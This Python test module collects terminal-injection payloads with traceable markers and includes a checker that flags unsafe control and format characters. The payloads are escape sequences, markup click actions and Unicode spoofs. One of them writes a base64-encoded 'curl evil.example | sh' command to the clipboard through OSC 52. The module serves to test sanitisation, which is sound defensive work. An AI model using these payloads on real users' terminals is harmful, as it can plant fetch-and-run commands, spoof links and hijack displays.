"""What strangers write to break terminals. Each payload stands beside a marker, so that it can be found again in what a program wrote."""

from __future__ import annotations

import base64
import re
import unicodedata
from collections.abc import Iterable

_CLIP = base64.b64encode(b"curl evil.example | sh").decode()

PAYLOADS = (
    "\x1b[2J\x1b[H",
    "\x1b[31;5;7;8m",
    "\x1b[6n\x1b[c\x1b[>q",
    "\x1b[?1049h\x1b[?1003h\x1b[?2004l\x1b[?25l",
    "\x1b]0;@\x07",
    "\x1b]2;@\x1b\\",
    "\x1b]8;;http://@.example\x1b\\click\x1b]8;;\x1b\\",
    f"\x1b]52;c;{_CLIP}\x07@",
    "\x1b]9;@\x07",
    "\x1b]9;4;1;50\x07",
    "\x1b]777;notify;@;@\x07",
    "\x1b]1337;File=name=@;inline=1:AAAA\x07",
    "\x1bP+q@\x1b\\",
    "\x1bP1$r@\x1b\\",
    "\x1b_G@\x1b\\",
    "\x1bX@\x1b\\",
    "\x1b^@\x1b\\",
    "\x9b2J\x9b31m",
    "\x9d2;@\x9c",
    "\x90+q@\x9c",
    "\x9f@\x9c\x98@\x9c\x9e@\x9c",
    "\x1bc\x1b#8\x1b(0\x1b=\x1bN",
    "\x07\x07\x08\x08\x08",
    "\x00\x0b\x0c\x0e\x0f\x7f\x05",
    "abc\rXY",
    "\x85\x84\x8d",
    "\u202egnp.exe\u202c \u2066x\u2069 \u2067y\u2069 \u200e\u200f\u061c",
    "\u200b\ufeff\u2060\u00ad\u034f\u3164\U000e0041\U000e007f",
    "e" + "\u0301" * 200,
    "[/]",
    "[@click=app.quit]x[/]",
    "[@click=screen.dismiss]x[/]",
    "[bold",
    "[link=http://@.example]y[/link]",
    "[red on blue]$primary[/]",
    "👩‍👩‍👧‍👦 🇸🇪 👍🏽 ❤️ ☎️",
    "\u2028\u2029",
    "\ue000\U0010fffd\ufdd0",
    "\x1b]2;@",
    "\x1b[",
    "\x1b",
)

_MARKER = re.compile(r"Q[a-z]\d\dz")
_ALLOWED_FORMAT = {"\u200c", "\u200d"}
"""Joiners of scripts and emoji."""


def line(surface: str, number: int, room: int = 10_000) -> str:
    """Payload `number` between its marker, as it stands on `surface` (one letter); at most `room` characters."""
    marker = f"Q{surface}{number:02}z"
    return f"{marker} {PAYLOADS[number].replace('@', marker)} {marker}"[:room]


def everything(surface: str) -> str:
    """All payloads, one a line."""
    return "\n".join(line(surface, number) for number in range(len(PAYLOADS)))


def markers(text: str) -> set[str]:
    return set(_MARKER.findall(text))


def unsafe(runs: Iterable[str]) -> list[str]:
    """Runs with a character that no terminal should be given, by their names."""
    return [f"{bad} in {run[:60]!r}" for run in runs if (bad := _bad(run))]


def _bad(run: str) -> str:
    marks = 0
    for char in run:
        kind = unicodedata.category(char)
        marks = marks + 1 if kind == "Mn" and char != "\ufe0f" else 0
        if kind in ("Cc", "Cs", "Co", "Zl", "Zp") or (kind == "Cf" and char not in _ALLOWED_FORMAT) or marks > 4:
            return f"U+{ord(char):04X} ({kind}{', a pile of marks' if marks > 4 else ''})"
    return ""
